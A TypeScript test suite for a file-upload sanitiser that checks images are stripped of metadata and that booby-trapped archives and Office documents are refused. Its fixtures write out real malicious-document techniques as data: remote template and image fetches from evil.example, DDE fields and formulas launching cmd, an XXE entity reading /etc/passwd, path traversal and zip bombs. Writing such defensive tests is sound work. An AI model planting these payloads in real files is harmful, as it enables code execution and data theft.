import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { cleanFile } from "#server/uploads/clean-file.ts";
import { exif, jpeg, png, samples, webp, zip } from "#tests/support/files/sample-files.ts";

const place = "GPS 55.7558 37.6173";
const script = "<script>alert(1)</script>";

async function judged(bytes: Buffer) {
  const cleaned = await cleanFile(Uint8Array.from(bytes));
  return cleaned.ok ? cleaned.value.type : cleaned.code;
}

async function cleanedBytes(bytes: Buffer): Promise<Buffer> {
  const cleaned = await cleanFile(Uint8Array.from(bytes));
  if (!cleaned.ok) throw new Error(cleaned.code);
  return Buffer.from(cleaned.value.bytes);
}

/** The size and all metadata of the stored picture. */
async function seen(bytes: Buffer) {
  const {
    width,
    height,
    exif: told,
    icc,
    xmp,
    orientation,
    pages = 1,
  } = await sharp(await cleanedBytes(bytes)).metadata();
  return { width, height, says: [told, icc, xmp, orientation].filter((one) => one !== undefined).length, pages };
}

describe("the type of a file is determined by its content", () => {
  it.each([
    ["jpeg", "jpg"],
    ["png", "png"],
    ["webp", "webp"],
    ["pdf", "pdf"],
    ["docx", "docx"],
    ["xlsx", "xlsx"],
    ["heic", "pictureHeic"],
    ["gif", "fileType"],
    ["svg", "fileType"],
    ["html", "fileType"],
  ] as const)("%s gives %s", async (name, type) => expect(await judged(samples[name])).toBe(type));

  it("an empty file has none", async () => expect(await judged(Buffer.alloc(0))).toBe("fileType"));
});

describe("pictures are re-encoded (security I8, I9)", () => {
  const segments: [number, Buffer][] = [
    [0xe1, exif(6, place)],
    [0xfe, Buffer.from(script)],
    [0xed, Buffer.from(place)],
  ];

  it.each([
    ["JPEG", jpeg({ segments, trailing: script })],
    [
      "PNG",
      png(
        2,
        2,
        [
          ["tEXt", Buffer.from(`Comment\0${place}`)],
          ["eXIf", exif(6, place).subarray(6)],
          ["zzZz", Buffer.from(script)],
        ],
        script,
      ),
    ],
    [
      "WebP",
      webp([
        ["EXIF", exif(1, place)],
        ["XMP ", Buffer.from(script)],
      ]),
    ],
  ])("a %s keeps nothing but its pixels", async (_, bytes) => {
    const clean = await cleanedBytes(bytes);
    expect(clean.includes(place) || clean.includes(script)).toBe(false);
    expect((await seen(bytes)).says).toBe(0);
  });

  it("a photograph taken upright is stored upright", async () => {
    expect(await seen(jpeg({ segments }))).toEqual({ width: 8, height: 16, says: 0, pages: 1 });
    const { data } = await sharp(await cleanedBytes(jpeg({ segments })))
      .raw()
      .toBuffer({ resolveWithObject: true });
    const [red = 0, , blue = 0] = data;
    expect(red).toBeGreaterThan(blue);
  });

  it("a picture is scaled down to at most 4096 pixels, and never up", async () => {
    const long = await sharp({ create: { width: 9_000, height: 900, channels: 3, background: "#f80" } })
      .png()
      .toBuffer();
    expect(await seen(long)).toMatchObject({ width: 4_096, height: 410 });
    expect(await seen(samples.jpeg)).toMatchObject({ width: 16, height: 8 });
  });

  it("an animation keeps its first frame", async () => {
    const frames = Buffer.from(Array.from({ length: 3 * 4 * 4 * 3 }, (_, at) => Math.floor(at / 48) * 100));
    const moving = await sharp(frames, { raw: { width: 4, height: 12, channels: 3, pageHeight: 4 } })
      .webp({ loop: 0 })
      .toBuffer();
    expect((await sharp(moving).metadata()).pages).toBe(3);
    expect(await seen(moving)).toMatchObject({ width: 4, height: 4, pages: 1 });
  });

  it("transparency is kept", async () => {
    const clear = await sharp({ create: { width: 4, height: 4, channels: 4, background: "#0000" } })
      .png()
      .toBuffer();
    expect((await sharp(await cleanedBytes(clear)).metadata()).hasAlpha).toBe(true);
  });

  it("a photograph too large as a PNG becomes a JPEG", async () => {
    const noise = await sharp({
      create: {
        width: 2_000,
        height: 2_000,
        channels: 3,
        background: "#fff",
        noise: { type: "gaussian", mean: 128, sigma: 60 },
      },
    })
      .png({ compressionLevel: 1 })
      .toBuffer();
    const cleaned = await cleanFile(Uint8Array.from(noise));
    expect(cleaned).toMatchObject({ ok: true, value: { type: "jpg" } });
  });

  it.each([
    ["PNG", png(30_000, 30_000)],
    ["JPEG", jpeg({ width: 30_000, height: 30_000 })],
    ["WebP", webp([], 16_000, 16_000)],
  ])("a %s with too many pixels is refused", async (_, bytes) => expect(await judged(bytes)).toBe("pictureTooLarge"));

  it.each([
    ["a cut JPEG", samples.jpeg.subarray(0, -60)],
    ["a JPEG of a head alone", Buffer.from([0xff, 0xd8, 0xff, 0xd9])],
    ["a JPEG whose segment is longer than itself", Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0xff, 0xff, 1])],
    ["a PNG cut in the middle", samples.png.subarray(0, 40)],
    ["a PNG that promises more rows than it has", png(4_000, 4_000)],
    ["a PNG with a wrong sum", Buffer.from(samples.png.map((byte, at) => (at === 18 ? byte ^ 1 : byte)))],
    ["a PNG without a picture", png(2, 2).subarray(0, 33)],
    ["a WebP cut in the middle", samples.webp.subarray(0, -30)],
    ["a picture of nothing", png(0, 5)],
    ["a script that begins like a JPEG", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), samples.html])],
    ["a drawing that begins like a PNG", Buffer.concat([samples.png.subarray(0, 8), samples.svg])],
  ])("%s is reported as broken", async (_, bytes) => expect(await judged(bytes)).toBe("fileBroken"));

  it("no truncated file crashes the reader", async () => {
    for (const bytes of [
      samples.jpeg,
      jpeg({ segments: [[0xe1, exif(6, place)]] }),
      samples.png,
      samples.webp,
      samples.docx,
      samples.pdf,
    ]) {
      for (let length = 0; length < bytes.length; length += 1)
        expect(typeof (await judged(bytes.subarray(0, length)))).toBe("string");
    }
  });

  it("many at once are processed in turn, and a long queue is refused", async () => {
    const codes = await Promise.all(Array.from({ length: 30 }, () => judged(samples.jpeg)));
    expect(new Set(codes)).toEqual(new Set(["jpg", "pictureSlow"]));
    expect(codes.filter((code) => code === "jpg")).toHaveLength(10);
  });
});

/** Two entries, the second inside the first: both are declared correctly and share their bytes. */
function zipInItself(): Buffer {
  const [outer, inner] = ["[Content_Types].xml", "word/document.xml"];
  const second = zip([inner]);
  const length = 30 + inner.length + "<x/>".length;
  const whole = zip([outer], { contents: { [outer]: second.subarray(0, length) } });
  const listed = Buffer.from(second.subarray(length, -22));
  listed.writeUInt32LE(30 + outer.length, 42);
  const end = Buffer.from(whole.subarray(-22));
  end.writeUInt16LE(2, 8);
  end.writeUInt16LE(2, 10);
  end.writeUInt32LE(end.readUInt32LE(12) + listed.length, 12);
  return Buffer.concat([whole.subarray(0, -22), listed, end]);
}

describe("documents are recognised by their directory, which has to match their contents (security I2, I3)", () => {
  const parts = ["[Content_Types].xml", "word/document.xml"];
  it.each([
    ["a zip of anything", zip(["a.txt"]), "fileType"],
    ["macros", zip([...parts, "word/vbaProject.bin"]), "fileType"],
    ["an archive in it", zip([...parts, "word/more.zip"]), "fileType"],
    ["a program in it", zip([...parts, "run.exe"]), "fileType"],
    ["a path out of it", zip([...parts, "../../etc/passwd"]), "fileType"],
    ["a bomb", zip(parts, { declared: 300_000_000 }), "fileBroken"],
    ["a lock", zip(parts, { locked: true }), "fileBroken"],
    ["one name twice", zip([...parts, "word/document.xml"]), "fileBroken"],
    ["more entries than it has", zip(parts, { count: 40_000 }), "fileBroken"],
    ["another format behind it", zip(parts, { comment: script }), "fileBroken"],
    ["an entry named otherwise in its own head", zip(parts, { head: { name: "word/document.bin" } }), "fileBroken"],
    ["an entry of another size in its own head", zip(parts, { head: { size: 2 } }), "fileBroken"],
    ["an entry of another sum", zip(parts, { head: { crc: 7 } }), "fileBroken"],
    ["an entry inside another", zipInItself(), "fileBroken"],
    ["entries that lie over one another", zip(parts, { overlapping: true }), "fileBroken"],
    ["something hidden between its entries", zip(parts, { between: Buffer.alloc(100) }), "fileBroken"],
    [
      "more in it than it says",
      zip(parts, { deflated: true, declared: 10, contents: { "word/document.xml": "x".repeat(1_000_000) } }),
      "fileBroken",
    ],
    ["less in it than it says", zip(parts, { deflated: true, declared: 10 }), "fileBroken"],
    ["one name in capitals too", zip([...parts, "word/DOCUMENT.xml"]), "fileBroken"],
    ["its end cut off", samples.docx.subarray(0, -4), "fileBroken"],
  ])("%s is refused", async (_, bytes, code) => expect(await judged(bytes)).toBe(code));

  it.each([
    "word/embeddings/oleObject1.bin",
    "xl/externalLinks/externalLink1.xml",
    "word/activeX/activeX1.xml",
    "xl/macrosheets/sheet1.xml",
    "xl/connections.xml",
    "word/media/Счёт.LNK",
    "word/media/page.html",
    "word/media/tool.scr",
  ])("a document with %s in it is refused", async (name) =>
    expect(await judged(zip([...parts, name]))).toBe("fileType"),
  );

  const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const relations = (inner: string) =>
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
  const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
    relations(`<Relationship Id="rId1" Type="${types}/${type}" Target="${target}" ${mode}/>`);
  const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");
  const filler = "<w:t>слово</w:t>".repeat(20_000);

  const fetching: [what: string, part: string, content: string | Buffer][] = [
    [
      "a template from elsewhere",
      "word/_rels/settings.xml.rels",
      relation("attachedTemplate", "https://evil.example/a.dotm"),
    ],
    [
      "the same with its address in entities",
      "word/_rels/settings.xml.rels",
      relation("attachedTemplate", "https://evil.example/a", 'TargetMode="&#69;xternal"'),
    ],
    [
      "the same in single quotes and with a prefix",
      "word/_rels/settings.xml.rels",
      `<r:Relationships><r:Relationship Target='a>b' Type='${types}/attachedTemplate' TargetMode='External'/></r:Relationships>`,
    ],
    [
      "the same behind much else",
      "word/_rels/settings.xml.rels",
      `<x>${filler}</x>${relation("attachedTemplate", "https://evil.example/a").slice(38)}`,
    ],
    [
      "the same in UTF-16",
      "word/_rels/settings.xml.rels",
      utf16(relation("attachedTemplate", "https://evil.example/a")),
    ],
    [
      "the same in an encoding nobody writes",
      "word/_rels/settings.xml.rels",
      relation("styles", "a", "").replace("UTF-8", "utf-7"),
    ],
    ["a picture from elsewhere", "word/_rels/document.xml.rels", relation("image", "https://evil.example/1.png")],
    [
      "a link to a program on this machine",
      "word/_rels/document.xml.rels",
      relation("hyperlink", "file:///C:/Windows/system32/calc.exe"),
    ],
    ["a link to a share", "word/_rels/document.xml.rels", relation("hyperlink", "\\\\evil\\share\\a.lnk")],
    ["an OLE object under another name", "word/_rels/document.xml.rels", relation("oleObject", "media/image1.png", "")],
    ["a page of HTML", "word/_rels/document.xml.rels", relation("aFChunk", "media/image1.png", "")],
    ["a field of DDE", "word/document.xml", "<w:r><w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText></w:r>"],
    [
      "a field of DDE in pieces",
      "word/document.xml",
      `<w:instrText xml:space="preserve"> DD</w:instrText>${filler}<w:instrText>E&#65;UTO cmd</w:instrText>`,
    ],
    ["a simple field of DDE", "word/document.xml", `<w:fldSimple w:dirty="true" w:instr=' DDE cmd "/c"'/>`],
    ["a field spelt in numbers", "word/document.xml", "<w:instrText>QUOTE 68 68 69</w:instrText>"],
    [
      "a field that fetches a text",
      "word/document.xml",
      "<w:instrText> INCLUDETEXT https://evil.example </w:instrText>",
    ],
    ["a formula that calls a program", "xl/worksheets/sheet1.xml", `<c><f>cmd|'/c calc'!A0</f></c>`],
    [
      "the same behind much else and in entities",
      "xl/worksheets/sheet1.xml",
      `<s>${filler}</s><c><f t="x">cmd&#x7C;'/c calc'!A0</f></c>`,
    ],
    ["the same as a name", "xl/workbook.xml", `<definedName name="a">cmd|'/c calc'!A0</definedName>`],
    ["the same beside a comment", "xl/worksheets/sheet1.xml", `<c><f>cmd<!-- -->|'/c calc'!A0</f></c>`],
    ["the same as raw text", "xl/worksheets/sheet1.xml", `<c><f><![CDATA[cmd|'/c calc'!A0]]></f></c>`],
    ["entities of its own", "word/document.xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`],
    [
      "a type with macros",
      "[Content_Types].xml",
      `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`,
    ],
    [
      "a part under a picture's name",
      "word/media/image1.png",
      relation("attachedTemplate", "https://evil.example/a.dotm"),
    ],
  ];

  it.each(fetching)("I4: %s is refused", async (_what, part, content) => {
    for (const deflated of [false, true]) {
      const names = [...new Set([...parts, ...(part.startsWith("xl/") ? ["xl/workbook.xml"] : []), part])];
      expect(await judged(zip(names, { deflated, contents: { [part]: content } }))).toBe("fileType");
    }
  });

  it("what office programs write by themselves is accepted", async () => {
    const contents = {
      "[Content_Types].xml": `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types><Default Extension="xml" ContentType="application/xml"/></Types>`,
      "word/document.xml": `\ufeff<?xml version="1.0" encoding="UTF-8"?><w:document>${filler}<w:instrText> PAGE </w:instrText><w:fldSimple w:instr=" HYPERLINK &quot;https://shop.test&quot; "/></w:document>`,
      "word/_rels/document.xml.rels": relations(
        `<Relationship Id="r1" Type="${types}/styles" Target="styles.xml"/><Relationship Id="r2" Type="${types}/hyperlink" Target="https://shop.test/?a=1&amp;b=2" TargetMode="External"/>`,
      ),
      "xl/worksheets/sheet1.xml": `<c r="A1"><f>IF(A2="a|b",SUM(B1:B9),0)</f><v>1</v></c>`,
      "word/media/image1.png": Buffer.concat([samples.png, Buffer.from("<".repeat(100)), Buffer.alloc(200_000)]),
    };
    for (const deflated of [false, true])
      expect(await judged(zip(Object.keys(contents), { deflated, contents }))).toBe("docx");
  });

  it("a PDF without its end is reported as broken", async () =>
    expect(await judged(Buffer.from("%PDF-1.4\n1 0 obj"))).toBe("fileBroken"));
  it("a PDF that starts with something else is not recognised", async () =>
    expect(await judged(Buffer.concat([Buffer.from("MZ"), samples.pdf]))).toBe("fileType"));
});
